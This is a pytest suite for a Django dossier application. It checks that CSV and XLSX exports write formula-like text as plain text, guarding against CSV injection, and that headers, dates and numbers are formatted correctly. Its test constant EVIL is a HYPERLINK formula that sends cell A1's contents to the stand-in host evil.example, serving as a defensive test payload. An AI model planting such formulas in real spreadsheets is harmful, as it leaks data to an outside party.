"""Every CSV and XLSX export: formula-like text written as text (OWASP CSV injection); in XLSX a
bold frozen header, fitted columns, typed dates and numbers (dossiers.exports)."""

import csv
import io

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from dossiers.exports import csv_text, csv_untext, xlsx_write
from dossiers.models import Unit
from dossiers.services.routing import dossier_transition
from dossiers.tests.fixtures import local

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.mark.parametrize("text", ["=1+1", "+84 905", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_does_write_formula_like_text_as_text_when_a_csv_cell_begins_with_a_trigger(text):
    assert csv_text(text) == "'" + text and csv_untext(csv_text(text)) == text


@pytest.mark.parametrize("value", ["Nguyễn Văn A", "1.001193", -5, 12.5, "a=b"])
def test_does_keep_a_csv_cell_as_it_is_when_nothing_could_run(value):
    assert csv_text(value) == str(value)


def test_does_type_dates_and_numbers_and_freeze_a_bold_header_when_writing_xlsx():
    from datetime import date, datetime
    from decimal import Decimal

    file = io.BytesIO()
    rows = [[EVIL, datetime(2026, 3, 9, 10, 0), date(2026, 3, 16), 7, Decimal("93.5"), "x" * 100]]
    xlsx_write(file, ["Mã hồ sơ", "Nhận lúc", "Hẹn trả", "Số ngày", "Tỷ lệ (%)", "Ghi chú"], rows, title="Sổ")
    sheet = openpyxl.load_workbook(file).active
    header, row = list(sheet.iter_rows())
    assert all(c.font.b for c in header) and sheet.freeze_panes == "A2"
    assert (row[0].value, row[0].data_type, row[0].quotePrefix) == (EVIL, "s", True)
    assert (row[1].value, row[1].number_format) == (datetime(2026, 3, 9, 10, 0), "dd/mm/yyyy hh:mm")
    assert (row[2].data_type, row[2].number_format) == ("d", "dd/mm/yyyy")
    assert (row[3].value, row[3].data_type, row[4].value, row[4].data_type) == (7, "n", 93.5, "n")
    widths = [sheet.column_dimensions[c].width for c in "ABCDEF"]
    assert widths == [56, 18, 12, 9, 11, 60]  # the longest of header and rows, + 2, at most 60


@pytest.fixture
def overdue(world, receive):
    """A dossier at the agency since 02/03/2026, of a procedure whose name reads like a formula."""
    world["procedure"].name = EVIL
    world["procedure"].save()
    with time_machine.travel(local(2026, 3, 2, 10, 0), tick=False):
        return dossier_transition(dossier_id=receive().pk, action="transfer", actor=world["clerk"])


@pytest.fixture
def supervisor(client, world):
    client.force_login(world["supervisor"])
    with time_machine.travel(local(2026, 3, 25, 14, 0), tick=False):
        yield client


def test_does_escape_formulas_in_the_supervision_csv_when_a_name_begins_with_equals(supervisor, overdue):
    response = supervisor.get(reverse("staff:supervision"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[1][0] == overdue.code and rows[1][2] == "'" + EVIL


def test_does_write_formulas_as_text_in_the_supervision_xlsx_when_a_name_begins_with_equals(supervisor, overdue):
    response = supervisor.get(reverse("staff:supervision"), {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, row = list(sheet.iter_rows())
    assert header[0].font.b and sheet.freeze_panes == "A2"
    assert (row[2].value, row[2].data_type) == (EVIL, "s") and row[8].number_format == "dd/mm/yyyy hh:mm"


def test_does_write_the_register_xlsx_with_typed_cells_and_formulas_as_text(client, world, overdue):
    client.force_login(world["clerk"])
    response = client.get(reverse("staff:register"), {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, row = list(sheet.iter_rows())
    assert header[1].value == "Mã hồ sơ" and header[1].font.b and sheet.freeze_panes == "A2"
    assert (row[0].value, row[0].data_type) == (1, "n")  # STT
    assert (row[2].value, row[2].data_type, row[2].quotePrefix) == (EVIL, "s", True)
    assert row[7].value == local(2026, 3, 2, 10, 0).replace(tzinfo=None) and row[7].number_format == "dd/mm/yyyy hh:mm"
    assert sheet.column_dimensions["B"].width == len(overdue.code) + 2


def _admin_export(admin_client, model: str, resource: str, file_format: int) -> bytes:
    from dossiers import resources

    columns = getattr(resources, resource)._meta.fields
    form = {"format": str(file_format), "resource": "0"} | {f"{resource.lower()}_{c}": "on" for c in columns}
    response = admin_client.post(reverse(f"admin:dossiers_{model}_export"), form)
    assert response.status_code == 200
    return response.content


def test_does_escape_formulas_in_the_admins_unit_exports_and_read_them_back(admin_client):
    from dossiers.admin.formats import SpreadsheetCSV, SpreadsheetXLSX

    Unit.objects.create(code="000.00.66.H56", name=EVIL, kind=Unit.Kind.AGENCY)
    as_csv = _admin_export(admin_client, "unit", "UnitResource", 0)
    assert f"'{EVIL}".replace('"', '""') in as_csv.decode("utf-8-sig")
    assert SpreadsheetCSV().create_dataset(as_csv.decode("utf-8-sig")).dict[0]["name"] == EVIL
    as_xlsx = _admin_export(admin_client, "unit", "UnitResource", 1)
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx)).active
    header, row = list(sheet.iter_rows())
    name = [c.value for c in header].index("name")
    assert header[0].font.b and sheet.freeze_panes == "A2"
    assert (row[name].value, row[name].data_type) == (EVIL, "s")
    assert SpreadsheetXLSX().create_dataset(as_xlsx).dict[0]["name"] == EVIL


def test_does_type_the_calendar_days_dates_when_the_admin_exports_xlsx(admin_client, world):
    as_xlsx = _admin_export(admin_client, "calendarday", "CalendarDayResource", 1)
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx)).active
    header, first = next(sheet.iter_rows(max_row=2)), list(sheet.iter_rows(min_row=2, max_row=2))[0]
    column = [c.value for c in header].index("date")
    assert first[column].data_type == "d" and first[column].number_format == "dd/mm/yyyy"
